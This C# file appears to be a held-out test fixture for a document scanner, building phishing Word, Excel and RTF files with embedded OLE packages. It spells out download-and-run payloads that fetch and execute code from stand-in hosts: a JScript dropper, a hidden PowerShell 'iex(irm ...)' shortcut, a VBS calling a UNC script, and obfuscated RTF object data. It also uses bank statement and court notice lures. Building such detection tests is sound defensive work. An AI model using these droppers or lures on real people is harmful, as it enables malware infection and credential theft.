using System.Text;
using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Documents that ask for a double click on a packed file.</summary>
public sealed class EmbeddedPackages : EighthRound
{
    private const string Object = "<w:p><w:r><w:object><v:shape id=\"_x0000_i1026\" style=\"width:76pt;height:49pt\"/><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1026\" DrawAspect=\"Icon\" r:id=\"rId10\"/></w:object></w:r></w:p>";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var script = Encoding.Latin1.GetBytes("var s=new ActiveXObject(\"WScript.Shell\");var x=new ActiveXObject(\"MSXML2.XMLHTTP\");x.open(\"GET\",\"http://198.51.100.14/statement.exe\",false);x.send();var a=new ActiveXObject(\"ADODB.Stream\");a.type=1;a.open();a.write(x.responseBody);var p=s.ExpandEnvironmentStrings(\"%TEMP%\")+\"\\\\statement.exe\";a.saveToFile(p,2);s.Run(p,0);");
        yield return ("Bank statement.docx", Word(P("To view the statement double-click the icon below and press Open.") + Object, [new Link("oleObject", "embeddings/oleObject1.bin")], [("word/embeddings/oleObject1.bin", PackedFile("Statement_112026.pdf.js", script))]));
        yield return ("RFQ-7719.xlsx", Excel([("RFQ", "visible", Row(1, "Double click the attached PDF specification"))], parts:
        [
            ("xl/worksheets/_rels/sheet1.xml.rels", EighthForms.Utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"../embeddings/oleObject1.bin\"/></Relationships>")),
            ("xl/embeddings/oleObject1.bin", PackedFile("Specification.exe", new EighthImage().Runtime().Importing("WININET.dll", "InternetOpenA InternetOpenUrlA InternetReadFile").With("http://rfq-files.example/gate.php").Build())),
        ], sheetTail: "<oleObjects><oleObject progId=\"Package\" dvAspect=\"DVASPECT_ICON\" shapeId=\"1025\" r:id=\"rId1\"/></oleObjects>"));
        var link = new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c start /min powershell -w 1 -c \"$u='notice-board'+'.example/n';iex(irm $u)\"").Icon("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE").Build();
        yield return ("Court notice.docx", Word(P("The enclosed page could not be shown. Click it twice to reload.") + Object.Replace("DrawAspect=\"Icon\"", "DrawAspect=\"Content\"", StringComparison.Ordinal), [new Link("oleObject", "embeddings/oleObject1.bin")], [("word/embeddings/oleObject1.bin", PackedFile("Notice\u00A0.docx.lnk", link))]));
        yield return ("Remittance.rtf", Remittance());
    }

    // The pieces of the object are broken by white space and empty groups, as kits do it.
    private static byte[] Remittance()
    {
        var hex = Convert.ToHexString(RtfBuilder.Embedded("Package", OlePackageBuilder.Package("remittance.vbs", EighthForms.Dos("Set o = CreateObject(\"Wscript.Sh\" & \"ell\")\no.Run \"powershell -ep bypass -w hidden -f \\\\192.0.2.8\\pub\\r.ps1\", 0\n"))[4..]));
        var broken = string.Concat(EighthForms.Pieces(hex, 9).Select((piece, at) => piece + (at % 3 == 0 ? "\r\n" : at % 3 == 1 ? "\t  " : "{\\*\\z}")));
        return Encoding.Latin1.GetBytes("{\\rt\\ansi\\deff0 Remittance advice. Please double click.{\\object\\objemb\\objw1440\\objh900{\\*\\objclass Package}{\\*\\objdata " + broken + "}{\\result{\\pard Open remittance.pdf}}}\\par}");
    }
}
